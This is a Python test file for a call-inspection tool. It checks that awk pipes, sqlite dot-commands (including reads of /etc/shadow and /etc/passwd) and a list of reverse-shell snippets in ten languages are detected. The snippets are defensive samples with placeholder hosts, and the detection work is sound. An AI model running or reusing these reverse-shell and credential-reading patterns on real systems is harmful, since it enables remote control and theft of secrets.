"""awk's pipes, sqlite's dot commands, and reverse shells in source text."""

from __future__ import annotations

import pytest

from callwarden.call import FileCall
from callwarden.facts import code, code_reverse, derive, shell
from callwarden.facts.builder import Builder
from callwarden.facts.context import Context
from callwarden.facts.model import Facts


def read(context: Context, language: str, source: str) -> Facts:
    builder = Builder(context, "/workspace", shell=shell.read, code=code.read)
    builder.code(language, source)
    return builder.build()


@pytest.mark.parametrize(
    ("source", "programs"),
    [
        ('{print "x" | "sh"}', ["sh"]),
        ('BEGIN{while (("cat f" | getline l) > 0) print l}', ["cat"]),
        ('BEGIN{c="curl -s a"; c | getline x; print x}', ["curl"]),
        ('{print $1 |& "sort -u"}', ["sort"]),
        ('$1 == "a" || $2 == "b" {print $0}', []),
        ('{print "a|b", $1; printf "%s|", $2}', []),
        ('{while ((getline line < "f") > 0) print line}', []),
    ],
)
def test_what_awk_pipes_with_is_a_command(context: Context, source: str, programs: list[str]) -> None:
    assert [command.program for command in read(context, "awk", source).commands] == programs


def test_a_command_that_awk_puts_together_is_not_known(context: Context) -> None:
    assert [p.place for p in read(context, "awk", "{$1 | getline x; print x}").opaque] == ["program"]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (".import /etc/shadow x", [("/etc/shadow", "read")]),
        (".mode csv\n.output out.csv\nselect 1;", [("/workspace/out.csv", "write")]),
        ("select readfile('/etc/passwd');", [("/etc/passwd", "read")]),
        ("select load_extension('./x.so');", [("/workspace/x.so", "execute")]),
        (".output stdout\n.tables\nselect '.shell';", []),
    ],
)
def test_files_of_sqlite_are_touched(context: Context, source: str, expected: list[tuple[str, str]]) -> None:
    found = [(p.path, p.access) for p in read(context, "sqlite", source).paths]
    assert set(expected) <= set(found)
    assert {access for path, access in found} - {"read"} == {access for path, access in expected} - {"read"}


@pytest.mark.parametrize("source", [".shell curl a", ".sys curl a", ".once '|curl a'"])
def test_what_sqlite_runs_is_a_command(context: Context, source: str) -> None:
    assert "curl" in [command.program for command in read(context, "sqlite3", source).commands]


SHELLS = [
    'int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, &a, n); dup2(s, 0); dup2(s, 1);\nexecve("/bin/sh", 0, 0);',
    "import socket,os\ns=socket.socket()\ns.connect(a)\nos.dup2(s.fileno(),0)\nos.execl('/bin/sh','sh')",
    'fd, _ := syscall.Socket(2, 1, 0); syscall.Dup2(fd, 0); syscall.Dup2(fd, 1)\nsyscall.Exec("/bin/sh", nil, nil)',
    'c, _ := net.Dial("tcp", a); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c',
    'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); open(STDIN, ">&S"); open(STDOUT, ">&S"); exec("/bin/sh -i");',
    '$s = fsockopen("h", 1); $p = proc_open("/bin/sh -i", array(0 => $s, 1 => $s), $pipes);',
    'Socket s = new Socket(h, 1); Process p = new ProcessBuilder("/bin/sh").start(); p.getInputStream();',
    "var n=require('net'),c=net.connect(1,'h');var sh=spawn('/bin/sh',[]);c.pipe(sh.stdin);sh.stdout.pipe(c);",
    "$c = New-Object Net.Sockets.TcpClient('h',1);$s=$c.GetStream();$d=(New-Object IO.StreamReader $s);iex $d",
    's = TcpStream::connect(a)?; Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) })',
]


@pytest.mark.parametrize("source", SHELLS)
def test_a_shell_tied_to_a_connection_is_found(source: str) -> None:
    assert code_reverse.found(source)


ORDINARY = [
    "import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.run(['git', 'status'])",
    "int main() { int p = open(f, 0); dup2(p, 0); execvp(argv[1], argv + 1); }",
    'c, err := net.Dial("tcp", a)\nout, _ := exec.Command("git", "log").Output()\ncmd.Stdout = os.Stdout',
    "const net = require('net'); net.createServer(c => c.pipe(c)).listen(1)",
    "Socket s = new Socket(h, 1); s.getOutputStream().write(1);",
    "A reverse shell opens a socket and runs /bin/sh over it.",
]


@pytest.mark.parametrize("source", ORDINARY)
def test_ordinary_network_code_is_none(source: str) -> None:
    assert not code_reverse.found(source)


def test_a_file_call_that_writes_one_says_so(context: Context) -> None:
    call = FileCall(id="c", kind="file", operation="write", path="x.c", content=SHELLS[0])
    assert [part.actions for part in derive.derive(call, context).code] == [["reverse_shell"]]
    plain = FileCall(id="c", kind="file", operation="write", path="x.c", content=ORDINARY[1])
    assert not derive.derive(plain, context).code
